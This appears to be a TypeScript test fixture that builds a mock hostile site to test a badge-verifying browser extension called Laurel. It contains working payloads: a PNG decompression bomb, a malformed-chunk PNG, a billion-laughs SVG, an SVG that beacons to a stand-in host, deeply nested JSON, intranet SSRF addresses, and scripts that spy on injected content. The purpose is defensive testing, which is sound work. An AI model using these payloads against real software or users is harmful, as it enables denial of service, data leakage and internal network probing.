// hostile.example: pages that fight Laurel or spy on it. `whatIsKnown()` returns what the spy learned.
import { crc32, deflateSync } from 'node:zlib';
import type { SampleAward } from './award';
import { plainPng } from './news';
import { html } from './page-frame';
import type { Answer, Site } from './server';

/** What a spying page could learn; everything empty or unchanged means that it learned nothing. */
export interface Learned {
  /** Words that window.find reached. */
  found: string[];
  /** Text of a selection of the whole document that the page itself did not write. */
  selected: string;
  /** Names of fonts whose glyphs were fetched (the server's log has them too). */
  fonts: string[];
  /** Resource-timing entries that are not of this page's own host. */
  resources: string[];
  /** Blocked addresses that a CSP violation event named. */
  violations: string[];
  messages: string[];
  /** window.length when the page started, and the most it ever was. */
  frames: { before: number; most: number };
  /** Attributes of elements that the page did not make: ids, classes, data. */
  strangers: string[];
  customElements: string[];
  /** Names on window that were not there at the start. */
  globals: string[];
}

export const CSP_REPORTS = '/csp-report';
export const FONT_PREFIX = '/fonts/';

const ANSWER_WORDS = [
  'Verified',
  'Not valid',
  'Revoked',
  'Suspended',
  'Expired',
  'Could not check',
  'Not checked yet',
  'sealed by',
];

export function buildHostile(awards: SampleAward[]): Site {
  const shown = awards.filter((award) => award.form.kind === 'png').slice(0, 3);
  const pages = new Map<string, Answer>();
  for (const { slug, form } of shown) {
    if (form.kind === 'png') pages.set(`/badges/${slug}.png`, { type: 'image/png', body: form.bytes });
  }
  // The names of the badges stand nowhere in the page's own markup, so finding one means reading Laurel's.
  const pictures = shown
    .map(({ slug }) => `<img src="/badges/${slug}.png" width="200" height="200" alt="">`)
    .join('\n');
  pages.set('/plain', html(page('Shows three badges', pictures, '')));
  pages.set('/tiny.png', {
    type: 'image/png',
    body: plainPng(64, 64, [190, 200, 205]),
    headers: { 'cache-control': 'max-age=3600' },
  });
  for (const [path, answer] of bombs()) pages.set(path, answer);
  const names = bombs().map(([path]) => path);
  pages.set(
    '/bombs',
    html(
      page(
        'Hands over bombs',
        [
          ...names.map((path) => `<img src="${path}" width="120" height="120" alt="badge">`),
          `<img src="/badges/${shown[0]?.slug}.png" width="200" height="200" alt="">`,
          `<script type="application/ld+json">${deepJson()}</script>`,
          `<script type="application/ld+json">${JSON.stringify(intranetAssertion())}</script>`,
        ].join('\n'),
        '',
      ),
    ),
  );
  pages.set('/removes', html(page('Removes what it did not make', pictures, REMOVER)));
  pages.set(
    '/spies',
    html(page('Looks over your shoulder', `<style>${fontFaces()}</style>${pictures}`, spy(shown)), {
      'content-security-policy':
        "default-src 'none'; script-src 'unsafe-inline'; style-src 'unsafe-inline'; img-src 'self'; " +
        `font-src 'self'; frame-src 'none'; report-uri ${CSP_REPORTS}`,
    }),
  );
  pages.set(CSP_REPORTS, { status: 204, type: 'text/plain', body: '' });
  pages.set('*', { status: 404, type: 'text/plain', body: 'Not found' });
  return { host: 'hostile.example', pages };
}

function page(title: string, body: string, script: string): string {
  return `<!doctype html>
<html lang="en">
<meta charset="utf-8">
<title>${title}</title>
<style>
  body { margin: 40px; font: 16px/1.5 system-ui, sans-serif; }
  img { margin: 20px; }
</style>
<body>
<h1>${title}</h1>
<main>${body}</main>
<script>${script}</script>
</body>
</html>`;
}

// Takes away every element outside its own markup, at once and for ever; counts how often it had to.
const REMOVER = `
  const own = new Set(document.querySelectorAll('*'));
  window.removed = 0;
  new MutationObserver((changes) => {
    for (const change of changes) for (const node of change.addedNodes) {
      if (node.nodeType === 1 && !own.has(node)) { node.remove(); window.removed += 1; }
    }
  }).observe(document.documentElement, { childList: true, subtree: true });
`;

// Named fonts that Laurel's own style sheets might fall back to, each with one glyph file a letter range.
function fontFaces(): string {
  const names = [
    'Segoe UI',
    'Roboto',
    'Helvetica Neue',
    'Inter',
    'Arial',
    'Ubuntu',
    'Cantarell',
    'Noto Sans',
  ];
  const ranges = ['U+41-4D', 'U+4E-5A', 'U+61-6D', 'U+6E-7A'];
  return names
    .flatMap((name) =>
      ranges.map(
        (range) =>
          `@font-face { font-family: "${name}"; unicode-range: ${range}; src: url("${FONT_PREFIX}${name.replaceAll(' ', '-')}/${range}.woff2"); }`,
      ),
    )
    .join('\n');
}

function spy(shown: SampleAward[]): string {
  const words = [...shown.map((award) => award.name), ...ANSWER_WORDS];
  return `
  const own = new Set(document.querySelectorAll('*'));
  const ownText = document.body.innerText;
  const before = window.length;
  const globals = new Set(Object.getOwnPropertyNames(window));
  const state = { violations: [], messages: [], most: before, customElements: [], strangers: new Set() };
  addEventListener('message', (event) => state.messages.push(JSON.stringify(event.data)));
  document.addEventListener('securitypolicyviolation', (event) => state.violations.push(event.blockedURI));
  const define = customElements.define.bind(customElements);
  customElements.define = (name, ...rest) => { state.customElements.push(name); return define(name, ...rest); };
  const look = () => {
    state.most = Math.max(state.most, window.length);
    for (const element of document.querySelectorAll('*')) {
      if (own.has(element) || element === document.querySelector('script')) continue;
      // Tag name and style are known to every visitor of Laurel's source; anything that varies is a leak.
      for (const { name, value } of element.attributes) {
        if (name !== 'style') state.strangers.add(name + '=' + value);
      }
      if (element.shadowRoot) state.strangers.add('open shadow root');
      if (element.textContent && element.textContent.trim()) state.strangers.add('text: ' + element.textContent);
    }
  };
  new MutationObserver(look).observe(document.documentElement, { childList: true, subtree: true, attributes: true });
  window.whatIsKnown = () => {
    look();
    const found = ${JSON.stringify(words)}.filter((word) => {
      getSelection().removeAllRanges();
      return window.find(word, false, false, true, false, true, false);
    });
    getSelection().selectAllChildren(document.documentElement);
    const selected = getSelection().toString();
    getSelection().removeAllRanges();
    const flat = (text) => text.replace(/\\s+/g, ' ').trim();
    const resources = performance.getEntriesByType('resource').map((entry) => entry.name);
    return {
      found,
      selected: flat(selected).replace(flat(ownText), '').replace(document.title, '').trim(),
      fonts: resources.filter((name) => name.includes('${FONT_PREFIX}')),
      resources: resources.filter((name) => new URL(name).host !== location.host),
      violations: state.violations,
      messages: state.messages,
      frames: { before, most: state.most },
      strangers: [...state.strangers],
      customElements: state.customElements,
      globals: Object.getOwnPropertyNames(window).filter((name) => !globals.has(name) && name !== 'whatIsKnown'),
    };
  };`;
}

/** Badge pictures that are made to exhaust, mislead or call home whoever opens them. */
function bombs(): [string, Answer][] {
  const base = Buffer.from(plainPng(64, 64, [150, 120, 90]));
  const afterHeader = 8 + 25;
  const insert = (extra: Buffer) =>
    Buffer.concat([base.subarray(0, afterHeader), extra, base.subarray(afterHeader)]);
  const keyword = (compressed: number) => Buffer.from(`openbadges\0${String.fromCharCode(compressed)}\0\0\0`);
  const bomb = Buffer.concat([keyword(1), deflateSync(Buffer.alloc(64_000_000, 0x20))]);
  const lying = chunk('iTXt', Buffer.concat([keyword(0), Buffer.from('{}')]));
  lying.writeUInt32BE(0x7fff_fff0, 0);
  const png = (body: Buffer): Answer => ({ type: 'image/png', body });
  return [
    ['/bomb.png', png(insert(chunk('iTXt', bomb)))],
    ['/lying.png', png(insert(lying))],
    [
      '/endless.png',
      png(insert(Buffer.concat(Array.from({ length: 9_000 }, () => chunk('tEXt', Buffer.from('a\0b')))))),
    ],
    ['/entities.svg', { type: 'image/svg+xml', body: BILLION_LAUGHS }],
    ['/calls-home.svg', { type: 'image/svg+xml', body: CALLS_HOME }],
  ];
}

function chunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
}

const BILLION_LAUGHS = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "haha"><!ENTITY b "${'&a;'.repeat(50)}"><!ENTITY c "${'&b;'.repeat(50)}"><!ENTITY d "${'&c;'.repeat(50)}">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org" viewBox="0 0 9 9"><rect width="9" height="9"/><openbadges:assertion verify="https://beacon.example/a">&d;</openbadges:assertion></svg>`;

const CALLS_HOME = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:openbadges="http://openbadges.org" viewBox="0 0 9 9" onload="fetch('https://beacon.example/b')"><script>fetch('https://beacon.example/c')</script><image xlink:href="https://beacon.example/d.png" width="9" height="9"/><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="https://beacon.example/e.png"/></foreignObject><rect width="9" height="9"/><openbadges:assertion verify="https://beacon.example/f"><![CDATA[{"@context":"https://w3id.org/openbadges/v2","type":"Assertion","id":"urn:uuid:1","badge":{"type":"BadgeClass","name":"x","image":"https://beacon.example/g.png"}}]]></openbadges:assertion></svg>`;

function deepJson(): string {
  return `{"@context":"https://www.w3.org/ns/credentials/v2","type":"OpenBadgeCredential","a":${'['.repeat(20_000)}${']'.repeat(20_000)}}`;
}

function intranetAssertion() {
  const id = 'https://10.0.0.7/assertions/1';
  return {
    '@context': 'https://w3id.org/openbadges/v2',
    type: 'Assertion',
    id,
    recipient: { type: 'email', hashed: false, identity: 'mara@portfolio.example' },
    badge: 'https://192.168.1.1/reboot',
    verification: { type: 'HostedBadge' },
    issuedOn: '2026-01-01T00:00:00Z',
  };
}
